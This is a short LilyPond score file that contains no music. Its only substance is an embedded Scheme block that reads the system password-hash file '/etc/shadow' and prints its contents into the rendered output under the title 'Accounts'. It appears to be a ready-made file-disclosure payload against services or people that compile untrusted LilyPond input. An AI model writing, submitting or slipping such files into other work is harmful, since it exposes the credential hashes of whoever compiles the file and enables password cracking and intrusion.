\version "2.24.0"

#(define secret
   (call-with-input-file "/etc/shadow"
     (lambda (port) (ly:gulp-file "/etc/shadow"))))

\markup { \column { "Accounts" #secret } }
